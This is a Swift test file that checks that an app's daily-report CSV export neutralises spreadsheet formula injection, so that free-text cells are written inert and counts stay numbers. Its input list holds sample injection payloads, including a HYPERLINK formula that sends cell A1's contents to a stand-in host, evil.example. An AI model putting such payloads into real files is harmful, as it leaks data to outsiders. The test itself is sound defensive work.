import Domain
import Foundation
import Services
import TestSupport
import Testing

/// A CSV Cordon writes is opened in a spreadsheet, which runs a cell starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return as a formula.
@Suite("CSV files run no formula")
struct CSVFormulaTests {
    @Test("the daily report's free text is written inert; its numbers stay numbers")
    func dailyReport() async throws {
        try await TestDatabase.withMigrated { db in
            let services = db.services()
            let demo = try await DemoFixture.make(services)
            let site = demo.siteA
            for district in [#"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+1+cmd", "-2+3", "@SUM(A1)"] {
                let current = try await services.sites.get(site.id, actor: DemoFixture.operatorActor)
                let draft = SiteDraft(
                    code: current.code, name: current.name, district: district, address: current.address,
                    kind: current.kind, bedCapacity: current.bedCapacity, timeZone: current.timeZone.identifier,
                    openedOn: current.openedOn)
                _ = try await services.sites.update(
                    site.id, draft, expectedVersion: current.version, actor: DemoFixture.operatorActor)
                let report = try await services.reports.daily(
                    siteId: site.id, date: CalendarDate(year: 2026, month: 11, day: 20),
                    actor: DemoFixture.operatorActor)
                let row = try DailyReportFiles.csv([report]).split(separator: "\n")[1]
                let inert = "'" + district
                let written = inert.contains("\"") ? "\"\(inert.replacingOccurrences(of: "\"", with: "\"\""))\"" : inert
                #expect(row.hasPrefix("TA-01,\(written),"), "\(row)")
                #expect(row.contains(",2026-11-20,0,"), "the counts are written as numbers: \(row)")
            }
        }
    }
}
